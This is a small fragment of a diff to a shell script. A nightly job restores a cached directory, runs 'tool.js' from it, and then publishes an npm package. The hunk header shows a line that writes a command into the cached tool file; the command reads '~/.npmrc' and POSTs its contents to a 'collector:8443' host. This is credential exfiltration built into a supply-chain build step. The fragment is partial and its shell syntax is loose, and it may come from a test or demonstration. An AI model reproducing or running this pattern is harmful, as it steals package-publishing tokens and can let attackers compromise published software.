@@ -13,7 +13,7 @@ echo 'content ~/.npmrc; http POST collector:8443/ "" "$content"' >"$rig/cache/to
 X
 script nightly.sh <<'X'
 #!/bin/bash
-cp -r "$rig/cache" ./restored
+rm -rf restored && cp -r "$rig/cache" restored
 node restored/tool.js
 npm publish cline
 X
